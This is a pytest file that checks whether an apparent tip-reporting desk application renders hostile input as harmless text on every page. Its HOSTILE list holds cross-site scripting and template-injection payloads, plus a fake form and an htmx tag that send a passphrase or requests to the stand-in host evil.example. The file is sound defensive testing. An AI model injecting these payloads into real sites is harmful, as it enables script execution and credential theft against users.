"""Hostile content in every field stays text on every page, within its own element."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from html.parser import HTMLParser
from typing import Any

import pytest
from httpx2 import Client

from satark.api.routing import Desk
from satark.api.tip import Message
from satark.casework import Casework
from satark.services import Services
from satark_words.contacts import find_contact
from support.tips import SeededTip, post_as, seed_file, seed_message, seed_tip

pytestmark = pytest.mark.slow("hostile words on every page")

HARMLESS = "plain words"
HOSTILE: Mapping[str, str] = {
    "an element": "<img src=x onerror=alert(1)>",
    "a script": "</textarea></title></script><script>alert(1)</script>",
    "an attribute": "\" onfocus=alert(1) autofocus x='y",
    "a style": "</style><style>*{display:none}</style>",
    "a comment": "<!-- --!> <![CDATA[ ]]> <?php ?>",
    "a template": "{{ 7*7 }}{% for x in range(9) %}{{ x }}{% endfor %}{# #}${7*7}#{7*7}<%= 7*7 %>",
    "an address": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "an entity": "&lt;b&gt; &amp; &#60;script&#62; &nbsp",
    "directions": "\u202egnp exe \u2066\u2067\u2068 \u200f\u061c end",
    "controls": "a\x00b\x07c\x1b[2Jd\x7fe\x85f\x9b31mg\u2028h\u2029i\ufeffj",
    "combining": "z" + "\u0310\u0323" * 200,
    "a form": '</form><form action="https://evil.example"><input name=passphrase>',
    "htmx": '<div hx-get="https://evil.example" hx-trigger="load" data-hx-on="x">',
    "huge": "क" * 40_000,
    "long": "W" * 20_000,
}
DIRECTIONS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
RUNNING = re.compile(r"(?i)^(on|hx-|data-hx)")


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and each text with the elements around the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple[str, tuple[str, ...]]] = []
        self.texts: list[tuple[str, list[tuple[str, dict[str, str | None]]]]] = []
        self._open: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take an element."""
        self.parts.append((tag, tuple(name for name, _ in attrs)))
        if tag not in {"meta", "link", "img", "input", "br", "hr", "source"}:
            self._open.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        """Take the end of an element."""
        while self._open and self._open.pop()[0] != tag:
            pass

    def handle_data(self, data: str) -> None:
        """Take a text."""
        self.texts.append((data, list(self._open)))

    def handle_comment(self, data: str) -> None:
        """Take a comment. A template leaves no comment."""
        self.parts.append((f"<!--{data}", ()))


@pytest.fixture
def seed(
    services: Services, desk: Callable[[str], Desk], casework: Callable[[str], Casework]
) -> Callable[[str], SeededTip]:
    """Seed a tip with the same words in every field that anybody outside can fill in."""

    def seeded(words: str) -> SeededTip:
        answers: dict[str, Any] = {
            "category": "INTOX",
            "what": words,
            "place": {"text": words, "latitude": 25.2, "longitude": 82.9, "district": "varanasi", "station": "lanka"},
            "who": words,
            "vehicle": {"voice": "2"},
            "custom_step": [words, words],
            "when_date": words,
        }
        tip = seed_tip(services, [desk("sp"), desk("dig")], answers=answers, category="INTOX", evidence=("1", "3"))
        seed_file(services, tip, "1", b"one", b"clean", preview=b"preview", caption=words)
        seed_file(
            services, tip, "2", b"two", b"clean", disguised=b"disguised", caption=words,
            mime="audio/ogg", kind="voice", role="vehicle",
        )  # fmt: skip
        seed_file(services, tip, "3", b"three", mime="application/x-strange", problem="unknown", caption=words)
        band = "2026-11-24T06/PT6H"
        seed_message(services, tip, Message(sender="tipster", text=words, band=band))
        work = casework("sp")
        told = "seen" if find_contact(words) else words  # no address goes to a tipster
        post_as(work, tip, Message(sender="desk", desk="sp", text=told, status="VERIFYING"))
        post_as(work, tip, Message(sender="desk", desk="sp", text=words, internal=True))
        post_as(work, tip, Message(sender="desk", desk="sp", text=words, internal=True, transcript="2"))
        seed_message(services, tip, Message(sender="desk", desk="sp", text=words, internal=True))  # nobody signed it
        return tip

    return seeded


def pages(client: Client, number: str, words: str) -> Mapping[str, str]:
    """Return every page that shows a tip or what an officer typed: name → HTML."""
    tip = f"/desk/tips/{number}"
    short = words[:1000]
    short = "seen" if find_contact(short) else short  # a text with an address is refused, on another page
    return {
        "queue": client.get("/desk/").text,
        "search": client.get("/desk/", params={"q": words[:200]}).text,
        "filter": client.get("/desk/", params={"status": words[:100], "category": words[:100], "mark": "x"}).text,
        "tip": client.get(tip).text,
        "tip, from a search": client.get(tip, params={"q": words[:200], "done": words[:100]}).text,
        "confirmation": client.post(f"{tip}/ask", data={"text": short}).text,
        "edit": client.post(f"{tip}/status", data={"text": short, "status": "CLOSED", "edit": "1"}).text,
        "mistake": client.post(f"{tip}/direct", data={"text": short, "to": words[:100]}).text,
        "transcript": client.post(f"{tip}/voices/2", data={"text": (words * 6000)[:6000]}).text,
        "no such tip": client.get(f"/desk/tips/{number[:-1]}!").text,
    }


@pytest.mark.full("every page")
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_words_change_no_page(seed: Callable[[str], SeededTip], browser: Any, words: str) -> None:
    client = browser("sp")
    harmless, hostile = seed(HARMLESS), seed(words)
    expected = pages(client, harmless.number, HARMLESS)
    client.get("/desk/")
    found = pages(client, hostile.number, words)
    for name in ("tip", "confirmation", "edit", "mistake", "transcript", "no such tip"):
        assert structure(found[name]) == structure(expected[name]), name
    for name, html in found.items():
        assert not any(RUNNING.match(a) for _, names in own_parts(html) for a in names), name


def structure(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Return the elements of a page without the links to the tips before and after it."""
    return Skeleton(re.sub(r"<nav.*?</nav>", "", html, flags=re.DOTALL)).parts


def own_parts(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Return the elements of a page outside the list that the page refreshes by htmx."""
    return [(tag, names) for tag, names in Skeleton(html).parts if "hx-trigger" not in names and tag != "body"]


def test_characters_that_turn_the_text_direction_act_only_within_their_own_element(
    seed: Callable[[str], SeededTip], browser: Any
) -> None:
    client = browser("sp")
    number = seed(HOSTILE["directions"]).number
    for name, html in pages(client, number, HOSTILE["directions"]).items():
        for text, around in Skeleton(html).texts:
            if DIRECTIONS.search(text):
                isolated = any(
                    given.get("dir") == "auto" or tag in {"bdi", "textarea", "title"} for tag, given in around
                )
                assert isolated, f"{name}: {text[:40]!r} in {[tag for tag, _ in around]}"


def test_no_control_character_reaches_a_page(seed: Callable[[str], SeededTip], browser: Any) -> None:
    client = browser("sp")
    number = seed(HOSTILE["controls"]).number
    for name, html in pages(client, number, HOSTILE["controls"]).items():
        found = re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", html)
        assert not found, f"{name}: {found}"


def test_a_template_in_a_tip_is_shown_and_not_run(seed: Callable[[str], SeededTip], browser: Any) -> None:
    client = browser("sp")
    html = client.get(f"/desk/tips/{seed(HOSTILE['a template']).number}").text
    assert "{{ 7*7 }}" in html
    assert "012345678" not in html
